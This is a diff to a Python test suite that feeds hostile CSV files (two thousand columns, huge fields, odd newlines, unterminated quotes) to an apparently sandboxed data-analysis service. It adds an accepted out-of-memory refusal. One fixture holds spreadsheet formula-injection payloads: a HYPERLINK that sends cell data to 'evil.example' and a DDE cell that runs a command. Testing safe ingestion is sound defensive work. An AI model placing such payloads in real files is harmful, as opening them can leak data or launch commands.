@@ -29,6 +29,7 @@ class HostileCsv:
         issue: For refused files: the RunError.metadata["issue"] of the runner, or "empty" for
             the catalog's INVALID_ARGUMENT.
         note: Text the capsule's sandbox stderr must contain (the reported issue), or "".
+        or_issue: An issue that is an acceptable typed refusal instead of ingestion (limits).
     """
 
     name: str
@@ -36,6 +37,7 @@ class HostileCsv:
     rows: int | None
     issue: str = ""
     note: str = ""
+    or_issue: str = ""
 
 
 FILES = [
@@ -51,7 +53,10 @@ FILES = [
     HostileCsv("empty_column_names", lambda: b"id,,\n1,a,b\n2,c,d\n", 2, note="an empty name"),
     HostileCsv("two_thousand_columns", lambda: (",".join(f"c{i}" for i in range(2000)) + "\n"
                                                 + "\n".join(",".join(str(r * i) for i in range(2000)) for r in range(3))
-                                                + "\n").encode(), 3),
+                                                + "\n").encode(), 3,
+               # DuckDB's reader needs ~1 GB of address space for 2,000 columns; the red-team
+               # sandbox caps it at 4 x 256 MB, so a typed memory refusal is acceptable too.
+               or_issue="out_of_memory"),
     HostileCsv("five_megabyte_field", lambda: b"id,blob\n1," + b"x" * (5 << 20) + b"\n2,small\n", 2),
     HostileCsv("formula_cells", lambda: (b'id,link,note\n1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+1\n'
                                          b"2,@SUM(A1:A9),-2+3\n3,=cmd|' /C calc'!A0,ok\n"), 3),
@@ -62,7 +67,8 @@ FILES = [
     HostileCsv("crlf_newlines", lambda: b"id,val\r\n1,a\r\n2,b\r\n", 2),
     HostileCsv("mixed_newlines", lambda: b"id,val\r\n1,a\n2,b\r3,c\n", None, "unreadable"),
     HostileCsv("quoted_newlines", lambda: b'id,text\n1,"line one\nline two"\n2,"x"\n3,"a,b"\n', 3),
-    HostileCsv("unterminated_quote", lambda: b'id,text\n1,"never closed\n2,x\n', None, "unreadable"),
+    # The quote is kept as a literal character: both rows load, nothing is lost.
+    HostileCsv("unterminated_quote", lambda: b'id,text\n1,"never closed\n2,x\n', 2),
 ]
 
 
@@ -94,14 +100,16 @@ def test_submit_run_counts_every_row_or_fails_typed(hostile: HostileCsv, csv_dir
     run = analyst.SubmitRun(request, timeout=30).run
     capsule = analyst.GetCapsule(api.GetCapsuleRequest(name=run.run_id), timeout=10).capsule
     assert capsule.run.state == run.state
-    if hostile.rows is None:
+    if hostile.or_issue and run.error.metadata.get("issue") == hostile.or_issue:
+        assert run.error.code == run_pb2.ERROR_CODE_RUNNER_RESOURCE_EXCEEDED and "run_memory" in run.error.message
+    elif hostile.rows is None:
         assert run.state == run_pb2.RUN_STATE_FAILED, run
         assert run.error.code == run_pb2.ERROR_CODE_QUERY_ERROR
         assert run.error.status_code == grpc.StatusCode.INVALID_ARGUMENT.value[0]
         assert run.error.metadata["issue"] == hostile.issue and run.error.metadata["table"] == hostile.name
         assert capsule.run.error == run.error
     else:
-        assert run.state == run_pb2.RUN_STATE_SUCCEEDED, run.error
+        assert run.state == run_pb2.RUN_STATE_SUCCEEDED, run.error.message
         assert _count(run) == hostile.rows, "a row was dropped or invented"
         if hostile.note:
             assert hostile.note in capsule.run.stats.stderr, capsule.run.stats.stderr
@@ -120,9 +128,11 @@ def test_ask_answers_or_fails_typed(hostile: HostileCsv, csv_dir: Path, analyst:
         return
     run = events[-1].run
     assert events[-1].stage == run_pb2.STAGE_DONE
-    if hostile.rows is None:
+    refused_for_memory = bool(hostile.or_issue) and "run_memory" in run.error.message
+    if hostile.rows is None or refused_for_memory:
         assert run.state in (run_pb2.RUN_STATE_REJECTED, run_pb2.RUN_STATE_FAILED), run
-        assert run.error.status_code == grpc.StatusCode.INVALID_ARGUMENT.value[0], run.error
+        assert run.error.status_code in (grpc.StatusCode.INVALID_ARGUMENT.value[0],
+                                         grpc.StatusCode.RESOURCE_EXHAUSTED.value[0]), run.error
         assert hostile.name in run.error.message
     else:
         # Safe ingestion: the question is answered (or clarified), never an internal error.
